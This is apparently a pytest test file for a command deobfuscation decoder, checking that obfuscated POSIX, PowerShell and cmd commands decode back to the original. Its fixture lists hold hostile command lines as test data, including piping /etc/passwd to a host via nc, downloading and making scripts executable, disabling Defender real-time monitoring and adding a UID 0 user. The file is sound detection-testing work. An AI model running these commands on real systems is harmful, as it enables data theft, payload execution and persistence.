"""Plain commands, hidden by our own generators, come back."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.commands.decode_obfuscations import POSIX, POWERSHELL, WINDOWS, WORDS

from ttpline.commands.decode import decode
from ttpline.testing.made_up_commands import attack_rows

PLAIN = [
    *(row.command_line for row in attack_rows(per_template=2)),
    "id",
    "uname -a; id && cat /etc/passwd | nc 192.0.2.9 4444",
    "find / -perm -4000 -type f 2>/dev/null",
    "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash helper",
    'echo "it is $HOME" > /tmp/a',
    "curl -s http://192.0.2.7/a.sh -o /tmp/a.sh && chmod +x /tmp/a.sh",
]
SIMPLE = ["cat /etc/passwd", "whoami", "curl http://192.0.2.7/x", "tail -n 3 /etc/shadow", "uname -a"]
PLAIN_POWERSHELL = [
    "Get-Process",
    "Get-LocalUser | Out-File C:\\Users\\Public\\u.txt",
    "(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a','a.exe')",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Get-ChildItem HKLM:\\Software -Recurse | Select-Object Name",
]
PLAIN_CMD = ["whoami", "ipconfig /all", "net user helper /add", "tasklist /svc"]


@pytest.mark.parametrize("name", POSIX)
def test_a_hidden_posix_command_comes_back(name: str) -> None:
    for command in PLAIN:
        hidden = POSIX[name](command, random.Random(1))
        assert decode(hidden).text == command, hidden


@pytest.mark.parametrize("inner", WORDS)
def test_split_words_come_back(inner: str) -> None:
    for command in SIMPLE:
        hidden = WORDS[inner](command, random.Random(1))
        assert decode(hidden).text == command, hidden


@pytest.mark.parametrize("outer", POSIX)
@settings(max_examples=15, deadline=None)
@given(st.sampled_from(sorted(POSIX)), st.sampled_from(PLAIN), st.integers(0, 99))
def test_two_posix_tricks_on_one_another_come_back(outer: str, inner: str, command: str, seed: int) -> None:
    random_ = random.Random(seed)
    hidden = POSIX[outer](POSIX[inner](command, random_), random_)
    assert decode(hidden).text == command, hidden


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(POSIX)), st.sampled_from(sorted(WORDS)), st.sampled_from(SIMPLE), st.integers(0, 99))
def test_split_words_within_an_encoding_come_back(outer: str, inner: str, command: str, seed: int) -> None:
    random_ = random.Random(seed)
    hidden = POSIX[outer](WORDS[inner](command, random_), random_)
    assert decode(hidden).text == command, hidden


@settings(max_examples=40, deadline=None)
@given(st.lists(st.sampled_from(sorted(POSIX)), min_size=3, max_size=3), st.sampled_from(SIMPLE))
def test_three_tricks_deep_come_back(names: list[str], command: str) -> None:
    hidden = command
    for name in names:
        hidden = POSIX[name](hidden, random.Random(1))
    assert decode(hidden).text == command, hidden


@pytest.mark.parametrize("name", POWERSHELL)
def test_a_hidden_powershell_command_comes_back(name: str) -> None:
    for command in PLAIN_POWERSHELL:
        hidden = POWERSHELL[name](command, random.Random(1))
        assert decode(hidden).text.removeprefix("powershell -nop -Command ") == command, hidden


@settings(max_examples=80, deadline=None)
@given(
    st.sampled_from(sorted(POWERSHELL)),
    st.sampled_from(sorted(POWERSHELL)),
    st.sampled_from(PLAIN_POWERSHELL),
    st.integers(0, 99),
)
def test_two_powershell_tricks_on_one_another_come_back(outer: str, inner: str, command: str, seed: int) -> None:
    random_ = random.Random(seed)
    hidden = POWERSHELL[outer](POWERSHELL[inner](command, random_), random_)
    assert decode(hidden).text.replace("powershell -nop -Command ", "") == command, hidden


@pytest.mark.parametrize("name", WINDOWS)
def test_a_hidden_cmd_command_comes_back(name: str) -> None:
    for command in PLAIN_CMD:
        hidden = WINDOWS[name](command, random.Random(1))
        assert decode(hidden).text.removeprefix('cmd /v:on /c "').removesuffix('"') == command, hidden
